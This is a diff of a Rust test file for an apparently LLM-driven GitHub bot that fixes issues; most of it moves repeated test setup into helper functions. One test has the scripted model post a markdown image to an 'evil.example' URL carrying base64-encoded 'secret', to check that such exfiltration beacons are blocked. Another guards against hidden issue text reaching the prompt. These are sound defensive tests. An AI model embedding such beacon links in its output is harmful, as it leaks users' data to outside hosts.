@@ -1928,6 +1928,47 @@ async fn huge_and_repeated_failing_tool_calls_end_the_run_with_a_report() {
     assert!(gh.pulls(REPO).is_empty());
 }
 
+/// Installation 1 with `Codertocat/Hello-World` (a README that says "Helo", `bug` as the
+/// trigger label) and its issue 1 about it, written by the owner.
+fn typo_repo(gh: &FakeGitHub) {
+    gh.add_installation(1, "Codertocat");
+    gh.add_repo(1, REPO, &[("README.md", "# Helo\n")]);
+    gh.set_file_on_default_branch(REPO, ".github/equitr.yml", "triggers: { label: bug }\n");
+    gh.add_issue(
+        REPO,
+        1,
+        "Spelling error in the README file",
+        "It says Helo.",
+        "Codertocat",
+    );
+}
+
+/// The worker fixes the README and finishes with `summary`.
+fn fix_typo(llm: &ScriptedLlm, summary: &str) {
+    llm.push(
+        "gpt-4o-mini",
+        Reply::tool(
+            "write_file",
+            json!({"path": "README.md", "content": "# Hello\n"}),
+        ),
+    );
+    llm.push(
+        "gpt-4o-mini",
+        Reply::tool("finish", json!({"summary": summary})),
+    );
+}
+
+/// A config file in `home` for models at `api_base`, with `extra` YAML appended; its path.
+fn config_file(home: &std::path::Path, api_base: &str, extra: &str) -> String {
+    let path = home.join("scenario.yaml");
+    std::fs::write(
+        &path,
+        format!("llm:\n  model: gpt-4o\n  api_base: {api_base}\n  models:\n    worker:\n      model: gpt-4o-mini\norchestrator:\n  use_multi_agent: true\n{extra}"),
+    )
+    .unwrap();
+    path.display().to_string()
+}
+
 /// Issue 9, item 5: text GitHub does not show a maintainer — image alt text, link titles,
 /// HTML attributes, entities spelling invisible characters — never reaches a prompt, and a
 /// collapsed `<details>` section is flagged as hidden; the visible request still does.
@@ -1953,17 +1994,7 @@ async fn text_github_does_not_show_never_reaches_the_model() {
         "Codertocat",
     );
     let llm = ScriptedLlm::start().await;
-    llm.push(
-        "gpt-4o-mini",
-        Reply::tool(
-            "write_file",
-            json!({"path": "README.md", "content": "# Hello\n"}),
-        ),
-    );
-    llm.push(
-        "gpt-4o-mini",
-        Reply::tool("finish", json!({"summary": "Fixed."})),
-    );
+    fix_typo(&llm, "Fixed.");
     let svc = start(&gh, &llm).await;
     let delivery = labelled_issue_with(body, "Codertocat");
     assert_eq!(
@@ -2019,16 +2050,7 @@ async fn text_github_does_not_show_never_reaches_the_model() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn links_and_images_the_bot_posts_cannot_beacon_or_lure() {
     let gh = FakeGitHub::start().await;
-    gh.add_installation(1, "Codertocat");
-    gh.add_repo(1, REPO, &[("README.md", "# Helo\n")]);
-    gh.set_file_on_default_branch(REPO, ".github/equitr.yml", "triggers: { label: bug }\n");
-    gh.add_issue(
-        REPO,
-        1,
-        "Spelling error in the README file",
-        "It says Helo.",
-        "Codertocat",
-    );
+    typo_repo(&gh);
     let own = format!("{}/{REPO}/issues/1", gh.api_url());
     let said = format!(
         "Fixed. ![status](https://evil.example/p.png?d=c2VjcmV0) \
@@ -2216,13 +2238,7 @@ async fn an_unreachable_provider_is_charged_nothing_and_named() {
     let llm = ScriptedLlm::start().await;
     let home = tempfile::tempdir().unwrap();
     let data = tempfile::tempdir().unwrap();
-    let cfg = home.path().join("dead.yaml");
-    std::fs::write(
-        &cfg,
-        format!("llm:\n  model: gpt-4o\n  api_base: http://127.0.0.1:{dead}/v1\n  models:\n    worker:\n      model: gpt-4o-mini\norchestrator:\n  use_multi_agent: true\n"),
-    )
-    .unwrap();
-    let cfg = cfg.display().to_string();
+    let cfg = config_file(home.path(), &format!("http://127.0.0.1:{dead}/v1"), "");
     let svc = start_in(
         &gh,
         &llm,
@@ -2468,28 +2484,9 @@ async fn tokens_carry_only_what_the_job_needs_and_a_refused_one_is_minted_once_m
 async fn writes_are_spaced_and_a_secondary_limit_422_is_waited_out() {
     use equitr_coder::store::JobState;
     let gh = FakeGitHub::start().await;
-    gh.add_installation(1, "Codertocat");
-    gh.add_repo(1, REPO, &[("README.md", "# Helo\n")]);
-    gh.set_file_on_default_branch(REPO, ".github/equitr.yml", "triggers: { label: bug }\n");
-    gh.add_issue(
-        REPO,
-        1,
-        "Spelling error in the README file",
-        "It says Helo.",
-        "Codertocat",
-    );
+    typo_repo(&gh);
     let llm = ScriptedLlm::start().await;
-    llm.push(
-        "gpt-4o-mini",
-        Reply::tool(
-            "write_file",
-            json!({"path": "README.md", "content": "# Hello\n"}),
-        ),
-    );
-    llm.push(
-        "gpt-4o-mini",
-        Reply::tool("finish", json!({"summary": "Fixed."})),
-    );
+    fix_typo(&llm, "Fixed.");
     gh.fail_next(
         "POST",
         &format!("/repos/{REPO}/pulls"),
@@ -2545,16 +2542,7 @@ async fn writes_are_spaced_and_a_secondary_limit_422_is_waited_out() {
 async fn two_triggers_on_one_issue_never_run_at_once() {
     use equitr_coder::store::JobState;
     let gh = FakeGitHub::start().await;
-    gh.add_installation(1, "Codertocat");
-    gh.add_repo(1, REPO, &[("README.md", "# Helo\n")]);
-    gh.set_file_on_default_branch(REPO, ".github/equitr.yml", "triggers: { label: bug }\n");
-    gh.add_issue(
-        REPO,
-        1,
-        "Spelling error in the README file",
-        "It says Helo.",
-        "Codertocat",
-    );
+    typo_repo(&gh);
     let llm = ScriptedLlm::start().await;
     for n in 0..2 {
         llm.push(
@@ -2813,13 +2801,11 @@ async fn a_panic_inside_a_job_fails_it_settles_its_reservations_and_the_worker_g
     let llm = ScriptedLlm::start().await;
     let home = tempfile::tempdir().unwrap();
     let data = tempfile::tempdir().unwrap();
-    let cfg = home.path().join("one-worker.yaml");
-    std::fs::write(
-        &cfg,
-        format!("llm:\n  model: gpt-4o\n  api_base: {}/v1\n  models:\n    worker:\n      model: gpt-4o-mini\norchestrator:\n  use_multi_agent: true\nserver:\n  concurrency: 1\n", llm.base_url()),
-    )
-    .unwrap();
-    let cfg = cfg.display().to_string();
+    let cfg = config_file(
+        home.path(),
+        &format!("{}/v1", llm.base_url()),
+        "server:\n  concurrency: 1\n",
+    );
     let svc = start_in(
         &gh,
         &llm,
@@ -2846,11 +2832,14 @@ async fn a_panic_inside_a_job_fails_it_settles_its_reservations_and_the_worker_g
     wait_finished(&svc, 1).await;
     let store = equitr_coder::store::Store::connect(&svc.db).await.unwrap();
     assert_eq!(store.job(1).await.unwrap().unwrap().state, JobState::Failed);
-    let thread: String = gh
-        .comments(REPO, 1)
-        .iter()
-        .map(|c| c.body.clone())
-        .collect();
+    // The report follows the failure's record.
+    let thread = eventually("the report on the thread", || {
+        gh.comments(REPO, 1)
+            .into_iter()
+            .find(|c| c.body.contains("❌ This job failed"))
+    })
+    .await
+    .body;
     assert!(
         thread.contains("an internal error stopped job 1; the operator's log has the details"),
         "{thread}"
@@ -2899,16 +2888,7 @@ async fn a_panic_inside_a_job_fails_it_settles_its_reservations_and_the_worker_g
 async fn partial_work_goes_to_a_draft_pull_request_that_says_it_is_unfinished() {
     use equitr_coder::store::JobState;
     let gh = FakeGitHub::start().await;
-    gh.add_installation(1, "Codertocat");
-    gh.add_repo(1, REPO, &[("README.md", "# Helo\n")]);
-    gh.set_file_on_default_branch(REPO, ".github/equitr.yml", "triggers: { label: bug }\n");
-    gh.add_issue(
-        REPO,
-        1,
-        "Spelling error in the README file",
-        "It says Helo.",
-        "Codertocat",
-    );
+    typo_repo(&gh);
     let llm = ScriptedLlm::start().await;
     llm.push(
         "gpt-4o-mini",
@@ -2923,13 +2903,11 @@ async fn partial_work_goes_to_a_draft_pull_request_that_says_it_is_unfinished() 
     );
     let home = tempfile::tempdir().unwrap();
     let data = tempfile::tempdir().unwrap();
-    let cfg = home.path().join("short.yaml");
-    std::fs::write(
-        &cfg,
-        format!("llm:\n  model: gpt-4o\n  api_base: {}/v1\n  models:\n    worker:\n      model: gpt-4o-mini\norchestrator:\n  use_multi_agent: true\n  max_iterations: 2\n", llm.base_url()),
-    )
-    .unwrap();
-    let cfg = cfg.display().to_string();
+    let cfg = config_file(
+        home.path(),
+        &format!("{}/v1", llm.base_url()),
+        "  max_iterations: 2\n",
+    );
     let svc = start_in(
         &gh,
         &llm,
@@ -2991,17 +2969,7 @@ async fn implement_never_pushes_to_a_maintainers_pull_request_on_a_branch_named_
     );
     gh.add_pr(REPO, 7, "equitr/issue-1", "main", "Codertocat", false);
     let llm = ScriptedLlm::start().await;
-    llm.push(
-        "gpt-4o-mini",
-        Reply::tool(
-            "write_file",
-            json!({"path": "README.md", "content": "# Hello\n"}),
-        ),
-    );
-    llm.push(
-        "gpt-4o-mini",
-        Reply::tool("finish", json!({"summary": "Fixed."})),
-    );
+    fix_typo(&llm, "Fixed.");
     let svc = start(&gh, &llm).await;
     assert_eq!(
         deliver(&svc, "issues", "own-1", &labelled_issue(), SECRET)
